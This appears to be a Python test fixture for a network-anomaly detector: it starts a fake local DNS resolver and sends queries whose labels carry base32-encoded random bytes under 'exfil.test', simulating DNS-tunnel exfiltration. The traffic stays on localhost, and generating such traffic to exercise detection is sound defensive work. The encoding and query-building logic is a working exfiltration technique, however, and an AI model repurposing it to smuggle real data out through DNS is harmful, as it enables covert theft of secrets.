#!/usr/bin/env python3
"""DNS_ANOMALY: queries with long high-entropy labels (data smuggled in names) to a fake
resolver this script starts on 127.0.0.1:53 (binding port 53 needs root, as proctor does)."""
import base64
import os
import socket
import struct
import threading

QUERIES = 20


def query(name, txid):
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", txid, 0x0100, 1, 0, 0, 0) + q + struct.pack(">HH", 16, 1)


def resolver(sock, stop):
    while not stop.is_set():
        try:
            data, peer = sock.recvfrom(512)
        except OSError:
            continue
        # NXDOMAIN: same id, response flag, rcode 3, the question echoed.
        sock.sendto(data[:2] + b"\x81\x83" + data[4:], peer)


def run():
    srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        srv.bind(("127.0.0.1", 53))
    except PermissionError:
        raise SystemExit("dns_tunnel: binding 127.0.0.1:53 needs root")
    srv.settimeout(0.2)
    stop = threading.Event()
    t = threading.Thread(target=resolver, args=(srv, stop), daemon=True)
    t.start()
    secret = os.urandom(30 * QUERIES)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as c:
        c.settimeout(0.5)
        for i in range(QUERIES):
            label = base64.b32encode(secret[i * 30:(i + 1) * 30]).decode().rstrip("=").lower()
            c.sendto(query(f"{label}.{i}.exfil.test", 0x1000 + i), ("127.0.0.1", 53))
            try:
                c.recvfrom(512)
            except OSError:
                pass
    stop.set()
    t.join(1)
    srv.close()


if __name__ == "__main__":
    run()
